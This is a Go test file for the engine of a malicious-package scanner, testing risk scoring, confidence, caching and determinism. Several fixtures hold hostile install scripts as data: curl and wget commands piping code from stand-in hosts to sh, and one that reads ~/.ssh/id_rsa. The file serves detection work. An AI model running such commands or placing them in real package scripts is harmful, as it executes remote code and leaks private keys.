package engine

import (
	"context"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/sirhCC/Smart-Dependency-Analyzer-sub000/api/schemas"
	"github.com/sirhCC/Smart-Dependency-Analyzer-sub000/internal/analysis/core"
	"github.com/sirhCC/Smart-Dependency-Analyzer-sub000/internal/config"
)

// stubDetector lets tests inject exact outcomes and count invocations.
type stubDetector struct {
	name  string
	bc    float64
	calls atomic.Int64
	fn    func(ctx context.Context, pkg *schemas.Package) core.Outcome
}

func (s *stubDetector) Name() string            { return s.name }
func (s *stubDetector) BaseConfidence() float64 { return s.bc }

func (s *stubDetector) Detect(ctx context.Context, pkg *schemas.Package) core.Outcome {
	s.calls.Add(1)
	if s.fn == nil {
		return core.Outcome{}
	}
	return s.fn(ctx, pkg)
}

func fixedOutcome(severity schemas.Severity, score float64, n int) func(context.Context, *schemas.Package) core.Outcome {
	return func(context.Context, *schemas.Package) core.Outcome {
		var out core.Outcome
		for i := 0; i < n; i++ {
			out.Add("synthetic signal", severity, score)
		}
		return out
	}
}

func testConfig() config.EngineConfig { return config.Default().Engine }

func newTestEngine(t *testing.T, opts ...Option) *Engine {
	t.Helper()
	return New(testConfig(), zap.NewNop(), opts...)
}

func healthyPackage() *schemas.Package {
	return &schemas.Package{
		Name:          "react",
		Version:       "18.3.1",
		Description:   "Library for building user interfaces",
		License:       "MIT",
		Author:        &schemas.Author{Name: "Meta Open Source", Email: "opensource@fb.com"},
		Repository:    &schemas.Repository{URL: "https://github.com/facebook/react"},
		DownloadCount: 25000000,
		PublishedAt:   time.Now().Add(-3000 * 24 * time.Hour),
	}
}

func TestSeverityFor(t *testing.T) {
	tests := []struct {
		score int
		want  schemas.Severity
	}{
		{0, schemas.SeverityLow},
		{34, schemas.SeverityLow},
		{35, schemas.SeverityMedium},
		{64, schemas.SeverityMedium},
		{65, schemas.SeverityHigh},
		{84, schemas.SeverityHigh},
		{85, schemas.SeverityCritical},
		{100, schemas.SeverityCritical},
	}
	for _, tc := range tests {
		assert.Equal(t, tc.want, severityFor(tc.score), "score %d", tc.score)
	}
}

func TestConfidenceFor(t *testing.T) {
	medium := func(n int) []schemas.Finding {
		out := make([]schemas.Finding, n)
		for i := range out {
			out[i] = schemas.Finding{Label: "x", Severity: schemas.SeverityMedium, Score: 10}
		}
		return out
	}

	t.Run("no findings", func(t *testing.T) {
		assert.Equal(t, 0.75, confidenceFor(nil, 0, 0, nil))
	})
	t.Run("any critical finding dominates", func(t *testing.T) {
		findings := append(medium(4), schemas.Finding{Severity: schemas.SeverityCritical})
		assert.Equal(t, 0.98, confidenceFor(findings, 1, 0, nil))
	})
	t.Run("high findings", func(t *testing.T) {
		assert.Equal(t, 0.92, confidenceFor(medium(1), 0, 1, nil))
	})
	t.Run("many findings", func(t *testing.T) {
		assert.Equal(t, 0.88, confidenceFor(medium(3), 0, 0, nil))
	})
	t.Run("falls through to best contributing family", func(t *testing.T) {
		contributed := []core.Detector{
			&stubDetector{name: "a", bc: 0.85},
			&stubDetector{name: "b", bc: 0.9},
		}
		assert.Equal(t, 0.9, confidenceFor(medium(1), 0, 0, contributed))
	})
	t.Run("family confidence is floored", func(t *testing.T) {
		contributed := []core.Detector{&stubDetector{name: "a", bc: 0.7}}
		assert.Equal(t, 0.8, confidenceFor(medium(1), 0, 0, contributed))
	})
}

func TestScanOneRejectsInvalidInput(t *testing.T) {
	e := newTestEngine(t)
	ctx := context.Background()

	_, err := e.ScanOne(ctx, nil)
	assert.ErrorIs(t, err, ErrNilPackage)

	_, err = e.ScanOne(ctx, &schemas.Package{Version: "1.0.0"})
	assert.ErrorIs(t, err, ErrNilPackage)
}

func TestScanOneHonorsCancelledContext(t *testing.T) {
	e := newTestEngine(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := e.ScanOne(ctx, healthyPackage())
	assert.ErrorIs(t, err, context.Canceled)
}

func TestScanOneCleanPackage(t *testing.T) {
	e := newTestEngine(t)

	result, err := e.ScanOne(context.Background(), healthyPackage())
	require.NoError(t, err)

	assert.Equal(t, "react", result.PackageName)
	assert.Equal(t, 0, result.RiskScore)
	assert.Equal(t, schemas.SeverityLow, result.Severity)
	assert.Equal(t, 0.75, result.Confidence)
	assert.Equal(t, noThreatReasons, result.ReasoningFactors)
	assert.Equal(t, baseMeasures, result.PreventiveMeasures)
	assert.Equal(t, 90, result.EstimatedTimeframeDays)
}

func TestScanOneMaliciousInstallScript(t *testing.T) {
	e := newTestEngine(t)

	result, err := e.ScanOne(context.Background(), &schemas.Package{
		Name:    "evil-dropper",
		Version: "1.0.0",
		Scripts: map[string]string{
			"postinstall": "curl http://evil.example.com/steal | sh",
		},
	})
	require.NoError(t, err)

	assert.Equal(t, 100, result.RiskScore)
	assert.Equal(t, schemas.SeverityCritical, result.Severity)
	assert.Equal(t, 0.98, result.Confidence)
	assert.Equal(t, 1, result.EstimatedTimeframeDays)
	assert.NotEqual(t, noThreatReasons, result.ReasoningFactors)
	// Base measures plus the script and injection family guidance.
	assert.Len(t, result.PreventiveMeasures, 4)
}

func TestScanOneTyposquatIsMediumRisk(t *testing.T) {
	e := newTestEngine(t)

	result, err := e.ScanOne(context.Background(), &schemas.Package{
		Name:    "colours",
		Version: "1.4.0",
	})
	require.NoError(t, err)

	assert.Equal(t, 55, result.RiskScore)
	assert.Equal(t, schemas.SeverityMedium, result.Severity)
	assert.Equal(t, 0.92, result.Confidence)
	assert.Equal(t, 30, result.EstimatedTimeframeDays)
}

func TestScanOneResultIsCached(t *testing.T) {
	stub := &stubDetector{name: "stub", bc: 0.85, fn: fixedOutcome(schemas.SeverityHigh, 40, 1)}
	e := newTestEngine(t, WithDetectors([]core.Detector{stub}))
	pkg := &schemas.Package{Name: "repeat-me", Version: "2.0.0"}

	first, err := e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	second, err := e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)

	assert.Equal(t, first, second)
	assert.Equal(t, int64(1), stub.calls.Load(), "second scan must not re-run detectors")
	assert.Equal(t, uint64(1), e.CacheStats().Hits)
}

func TestScanOneLowConfidenceNotCached(t *testing.T) {
	cfg := testConfig()
	cfg.ConfidenceThreshold = 0.9

	stub := &stubDetector{name: "stub", bc: 0.8, fn: fixedOutcome(schemas.SeverityMedium, 10, 1)}
	e := New(cfg, zap.NewNop(), WithDetectors([]core.Detector{stub}))
	pkg := &schemas.Package{Name: "uncertain", Version: "1.0.0"}

	result, err := e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	assert.Equal(t, 0.8, result.Confidence)

	_, err = e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	assert.Equal(t, int64(2), stub.calls.Load(), "sub-threshold results must not be cached")
}

func TestScanOneInvalidateCaches(t *testing.T) {
	stub := &stubDetector{name: "stub", bc: 0.85, fn: fixedOutcome(schemas.SeverityHigh, 40, 1)}
	e := newTestEngine(t, WithDetectors([]core.Detector{stub}))
	pkg := &schemas.Package{Name: "repeat-me", Version: "2.0.0"}

	_, err := e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)

	e.InvalidateCaches()

	_, err = e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	assert.Equal(t, int64(2), stub.calls.Load())
}

func TestScanOneMultiScriptDeterministic(t *testing.T) {
	pkg := &schemas.Package{
		Name:    "multi-script",
		Version: "1.0.0",
		Scripts: map[string]string{
			"preinstall":  "curl http://a.example/one | sh",
			"postinstall": "wget http://b.example/two | sh",
			"start":       "cat ~/.ssh/id_rsa",
		},
	}

	// Full registry, fresh cache each time: the result, including the order
	// of the reasoning factors, must never depend on map iteration order.
	e := newTestEngine(t)
	first, err := e.ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	require.NotEmpty(t, first.ReasoningFactors)

	for i := 0; i < 10; i++ {
		e.InvalidateCaches()
		again, err := e.ScanOne(context.Background(), pkg)
		require.NoError(t, err)
		assert.Equal(t, first, again)
	}

	other, err := newTestEngine(t).ScanOne(context.Background(), pkg)
	require.NoError(t, err)
	assert.Equal(t, first, other, "separate engine instances must agree")
}

func TestScanOneContainsPanickingDetector(t *testing.T) {
	panicky := &stubDetector{name: "broken", bc: 0.9, fn: func(context.Context, *schemas.Package) core.Outcome {
		panic("detector exploded")
	}}
	healthy := &stubDetector{name: "healthy", bc: 0.85, fn: fixedOutcome(schemas.SeverityMedium, 20, 1)}
	e := newTestEngine(t, WithDetectors([]core.Detector{panicky, healthy}))

	result, err := e.ScanOne(context.Background(), &schemas.Package{Name: "x", Version: "1"})
	require.NoError(t, err)

	require.Len(t, result.ReasoningFactors, 1)
	assert.Equal(t, 20, result.RiskScore)
}

func TestScanOneClampsScore(t *testing.T) {
	stub := &stubDetector{name: "loud", bc: 0.9, fn: fixedOutcome(schemas.SeverityCritical, 500, 1)}
	e := newTestEngine(t, WithDetectors([]core.Detector{stub}))

	result, err := e.ScanOne(context.Background(), &schemas.Package{Name: "x", Version: "1"})
	require.NoError(t, err)

	assert.Equal(t, 100, result.RiskScore)
	assert.Equal(t, schemas.SeverityCritical, result.Severity)
}

func TestScanOneEscalationMultipliers(t *testing.T) {
	t.Run("critical multiplier scales with count", func(t *testing.T) {
		stub := &stubDetector{name: "s", bc: 0.9, fn: fixedOutcome(schemas.SeverityCritical, 50, 1)}
		e := newTestEngine(t, WithDetectors([]core.Detector{stub}))

		result, err := e.ScanOne(context.Background(), &schemas.Package{Name: "a", Version: "1"})
		require.NoError(t, err)
		assert.Equal(t, 75, result.RiskScore) // 50 x 1.5
	})

	t.Run("more than two highs", func(t *testing.T) {
		stub := &stubDetector{name: "s", bc: 0.9, fn: fixedOutcome(schemas.SeverityHigh, 10, 3)}
		e := newTestEngine(t, WithDetectors([]core.Detector{stub}))

		result, err := e.ScanOne(context.Background(), &schemas.Package{Name: "b", Version: "1"})
		require.NoError(t, err)
		assert.Equal(t, 39, result.RiskScore) // 30 x 1.3
	})

	t.Run("more than five findings", func(t *testing.T) {
		stub := &stubDetector{name: "s", bc: 0.9, fn: fixedOutcome(schemas.SeverityLow, 8, 6)}
		e := newTestEngine(t, WithDetectors([]core.Detector{stub}))

		result, err := e.ScanOne(context.Background(), &schemas.Package{Name: "c", Version: "1"})
		require.NoError(t, err)
		assert.Equal(t, 60, result.RiskScore) // 48 x 1.25
	})
}

func TestDisabledFamiliesProduceNoSignal(t *testing.T) {
	cfg := testConfig()
	cfg.Detectors = config.DetectorConfig{} // every family off

	e := New(cfg, zap.NewNop())

	result, err := e.ScanOne(context.Background(), &schemas.Package{
		Name:    "evil-dropper",
		Version: "1.0.0",
		Scripts: map[string]string{"postinstall": "curl http://evil.example.com/steal | sh"},
	})
	require.NoError(t, err)

	assert.Equal(t, 0, result.RiskScore)
	assert.Equal(t, schemas.SeverityLow, result.Severity)
	assert.Equal(t, 0.75, result.Confidence)
}
